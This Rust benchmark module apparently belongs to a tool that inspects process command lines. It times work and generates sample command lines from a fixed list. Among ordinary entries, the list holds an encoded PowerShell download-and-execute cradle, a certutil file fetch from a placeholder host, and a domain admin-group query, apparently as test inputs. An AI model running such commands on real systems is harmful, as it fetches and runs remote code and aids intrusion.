//! Benchmarks; each is a binary of its own under `src/bin`. They print figures and ratios, and
//! assert nothing about time.

use std::path::Path;
use std::process::{Command, ExitCode};
use std::time::{Duration, Instant};

pub mod labelled;
pub mod written;

/// Runs one of the scripts under `tests/e2e/figures`, which drive the browser or look at the built
/// extension, as `cargo xtask bench` tells them where everything is.
pub fn figures(name: &str) -> ExitCode {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../e2e");
    let mut node = Command::new("node");
    node.arg(format!("figures/{name}.mjs")).current_dir(folder);
    match node.status() {
        Ok(status) if status.success() => ExitCode::SUCCESS,
        Ok(_) => ExitCode::FAILURE,
        Err(error) => {
            eprintln!("node cannot be started: {error}");
            ExitCode::FAILURE
        }
    }
}

/// The fastest of `rounds` runs of `work`, which returns what must not be optimised away. Time on
/// the processor, where the system tells it: a busy machine then changes little.
pub fn fastest<T>(rounds: u32, mut work: impl FnMut() -> T) -> Duration {
    (0..rounds)
        .map(|_| {
            let (clock, processor) = (Instant::now(), on_processor());
            std::hint::black_box(work());
            match (processor, on_processor()) {
                (Some(before), Some(after)) => after.saturating_sub(before),
                _ => clock.elapsed(),
            }
        })
        .min()
        .unwrap_or_default()
}

/// The time that this thread was on a processor (Linux, `/proc/<pid>/schedstat`, nanoseconds).
fn on_processor() -> Option<Duration> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    let nanoseconds = text.split_whitespace().next()?.parse().ok()?;
    Some(Duration::from_nanos(nanoseconds))
}

/// Command lines as ordinary hosts run them, with a few that are not: `count` of them, all
/// different, in a fixed order.
pub fn command_lines(count: usize) -> Vec<String> {
    (0..count)
        .map(|number| LINES[number % LINES.len()].replace('#', &number.to_string()))
        .collect()
}

/// `#` stands for a number, so that no two lines are the same.
const LINES: &[&str] = &[
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule#",
    r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=# --launch-time-ticks=112233445566 --field-trial-handle=1912,i,10245873,131072 /prefetch:1"#,
    r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler /task #"#,
    r"C:\Windows\System32\taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E} #",
    r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Inventory\collect#.ps1",
    r"cmd.exe /c dir C:\Users\user#\Documents",
    r"git -C /home/user#/src/project fetch --prune origin",
    r"/usr/lib/systemd/systemd-udevd --children-max=#",
    r"/usr/bin/python3 /opt/agent/check_disk.py --warn 80 --crit 90 --id #",
    r"sh -c 'test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily #'",
    r"/usr/bin/node /srv/app/node_modules/.bin/webpack --config webpack.prod.js --env build=#",
    r"/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared -i #",
    r"msiexec.exe /i C:\Windows\ccmcache\#\setup.msi /qn /norestart",
    r"conhost.exe 0xffffffff -ForceV#",
    r"gcc -O2 -Wall -I/usr/include/openssl -c src/file#.c -o build/file#.o",
    r#"java -Xmx2g -cp "lib/a.jar;lib/b.jar;lib/c.jar" com.example.Main --port 80#"#,
    r"ssh -o BatchMode=yes deploy@app#.internal systemctl restart web",
    r"tar -xzf /tmp/release-#.tar.gz -C /opt/releases/#",
    r"wmic.exe /node:localhost process where processid=# get name",
    r"reg.exe add HKCU\Software\Vendor\App /v LastRun /t REG_SZ /d # /f",
    r"schtasks.exe /query /tn \Vendor\Update# /fo list",
    r"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA== #",
    r"certutil.exe -urlcache -split -f http://files.example/#.txt C:\Users\Public\#.txt",
    r"net.exe group #admins /domain",
];
